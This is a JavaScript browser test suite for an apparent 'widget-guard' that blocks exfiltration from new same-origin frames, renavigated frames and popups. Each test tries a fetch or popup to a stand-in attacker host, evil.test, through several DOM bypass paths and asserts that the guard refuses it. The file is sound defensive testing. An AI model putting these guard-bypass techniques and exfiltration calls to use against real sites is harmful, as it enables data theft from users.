// New realms: a same-origin frame or popup has its own, unguarded sinks until the guard reaches
// it. Each test makes one kind of new realm the guard might miss and sends from it; the servers'
// log says whether anything got out.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();
const open = (afterInstall = '') => session.browser.open({ options: OPTIONS, csp: PAGE_CSP, afterInstall: PAGE_HELPERS + afterInstall });

/** In the page: what a fetch to evil.test/<marker>/<name> from `win` gave (a guard refusal names the guard). */
const PROBE = `window.probe = async (win, marker, name) => {
  const outcome = await attempt(() => win.fetch('https://evil.test/' + marker + '/' + name));
  return outcome.error ? outcome.error + (/widget-guard refused/.test(outcome.message) ? ' (guard)' : '') : 'sent';
};`;

test('fresh same-origin frames reached only as frames[i] (no getter): every insertion path, a synchronous load handler, another realm\'s DOM method, a data: frame → refused (guard; the data: frame is cross-origin)', async () => {
  const page = await open(PROBE);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const marker = 'adv-frames';
    const newest = () => frames[frames.length - 1];
    const container = () => document.body.appendChild(document.createElement('div'));
    const iframe = () => document.createElement('iframe');
    const results = {};
    container().replaceChildren(iframe());
    results.replaceChildren = await probe(newest(), marker, 'replace-children');
    container().appendChild(document.createTextNode('x')).after(iframe());
    results.textNodeAfter = await probe(newest(), marker, 'text-after');
    const range = document.createRange();
    range.selectNodeContents(container().appendChild(document.createElement('p')));
    range.surroundContents(iframe());
    results.surroundContents = await probe(newest(), marker, 'surround-contents');
    const editable = container();
    editable.contentEditable = 'true';
    editable.focus();
    document.execCommand('insertHTML', false, '<iframe></iframe>');
    results.execCommandInsertHTML = await probe(newest(), marker, 'exec-command');
    const body = document.createElement('body');
    body.append(...document.body.childNodes, iframe());
    document.body = body;
    results.bodySetter = await probe(newest(), marker, 'body-setter');
    // Chromium fires a frame's first load event inside appendChild, before the guard's hook returns.
    const early = iframe();
    let fromLoad;
    early.onload = () => { fromLoad = probe(newest(), marker, 'sync-load'); };
    container().appendChild(early);
    results.syncLoadHandler = await fromLoad;
    // The widget's appendChild used on a frame's node: the new frame is the frame's child.
    const child = newest();
    Node.prototype.appendChild.call(child.document.body, iframe());
    results.otherRealmsMethod = await probe(child[0], marker, 'other-realm');
    const data = iframe();
    data.src = 'data:text/html,<p>opaque</p>';
    await new Promise((resolve) => { data.onload = resolve; container().append(data); });
    results.dataFrame = await probe(newest(), marker, 'data-frame');
    results.allowed = await attempt(() => frames[0].fetch('https://api.test/v1/adv-frames/ok').then((r) => r.json()));
    return results;
  });
  await waitForServed('api.test/v1/adv-frames/ok');
  assertNothingLeaked('adv-frames');
  assert.deepEqual({ ...outcomes, allowed: outcomes.allowed.value?.path }, {
    replaceChildren: 'TypeError (guard)',
    textNodeAfter: 'TypeError (guard)',
    surroundContents: 'TypeError (guard)',
    execCommandInsertHTML: 'TypeError (guard)',
    bodySetter: 'TypeError (guard)',
    syncLoadHandler: 'TypeError (guard)',
    otherRealmsMethod: 'TypeError (guard)',
    dataFrame: 'SecurityError', // an opaque origin: its realm is out of reach (its own script is the CSP's, see below)
    allowed: '/v1/adv-frames/ok',
  });
  await page.close();
});

test('a guarded same-origin frame navigated to a new document of the same origin (another srcdoc, blob:, about:blank, a reload), which would be a new realm: the navigation is refused (guard)', async () => {
  const page = await open(PROBE);
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const marker = 'adv-renavigate';
    // Every document sends from its own script as it loads: in a new realm, before anyone could guard it.
    const page = (name) => `<script>fetch('https://evil.test/${marker}/${name}-own-script').catch(() => {})<\/script>`;
    const blob = (name) => URL.createObjectURL(new Blob([page(name)], { type: 'text/html' }));
    /** Loads a srcdoc frame, runs `navigate(frame, window)`, waits until it loaded again or the guard refused, probes frames[i]. */
    const navigated = async (name, navigate) => {
      const frame = document.createElement('iframe');
      frame.srcdoc = page(name + '-first');
      await new Promise((resolve) => { frame.onload = resolve; document.body.append(frame); });
      const index = frames.length - 1;
      const refused = new Promise((resolve) => document.addEventListener('widget-guard:violation', function once(e) {
        if (e.detail.sink === 'navigation') { document.removeEventListener('widget-guard:violation', once); resolve('refused'); }
      }));
      const loaded = new Promise((resolve) => { frame.onload = () => resolve('loaded'); });
      navigate(frame, frames[index]);
      const timeout = new Promise((resolve) => setTimeout(() => resolve('neither loaded nor refused'), 5000));
      return `${await Promise.race([refused, loaded, timeout])}, ${await probe(frames[index], marker, name)}`;
    };
    return {
      srcdocAgain: await navigated('srcdoc-again', (frame) => { frame.srcdoc = page('srcdoc-again'); }),
      blobSrc: await navigated('blob-src', (frame) => { frame.src = blob('blob-src'); frame.removeAttribute('srcdoc'); }),
      aboutBlank: await navigated('about-blank', (frame, win) => { win.location.href = 'about:blank'; }),
      blobReplace: await navigated('blob-replace', (frame, win) => win.location.replace(blob('blob-replace'))),
      reload: await navigated('reload', (frame, win) => win.location.reload()),
      fragment: await navigated('fragment', (frame, win) => { win.location.hash = 'same-document'; frame.onload(); }),
    };
  });
  assertNothingLeaked('adv-renavigate');
  assert.deepEqual(outcomes, {
    srcdocAgain: 'refused, TypeError (guard)',
    blobSrc: 'refused, TypeError (guard)',
    aboutBlank: 'refused, TypeError (guard)',
    blobReplace: 'refused, TypeError (guard)',
    reload: 'refused, TypeError (guard)',
    fragment: 'loaded, TypeError (guard)', // a same-document move makes no new realm: let through
  });
  await page.close();
});

test('popups: document.open(url, name, features) (window.open by another name), from the widget and a fresh frame, to an unlisted origin or about:blank → null, nothing opens (guard)', async () => {
  const page = await open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    const opened = (fn) => { const popup = fn(); return popup === null ? 'null' : 'a window'; };
    const outcomes = {
      documentOpen: opened(() => document.open('https://evil.test/adv-popups/document-open', '_blank', '')),
      blank: opened(() => document.open('about:blank', 'blank', '')),
      fromFrame: opened(() => frame.document.open('https://evil.test/adv-popups/frame-document-open', '_blank', '')),
      otherRealmsMethod: opened(() => Document.prototype.open.call(frame.document, 'https://evil.test/adv-popups/other-realm', '_blank', '')),
      allowed: opened(() => document.open('https://docs.test/adv-popups/allowed', '_blank', '')),
    };
    document.open(); // the two-argument form still replaces the document
    document.write('<p id="rewritten">rewritten</p>');
    document.close();
    return { ...outcomes, rewritten: document.getElementById('rewritten') !== null };
  });
  await waitForServed('docs.test/adv-popups/allowed');
  assertNothingLeaked('adv-popups');
  assert.deepEqual(outcomes, { documentOpen: 'null', blank: 'null', fromFrame: 'null', otherRealmsMethod: 'null', allowed: 'a window', rewritten: true });
  await page.close();
});
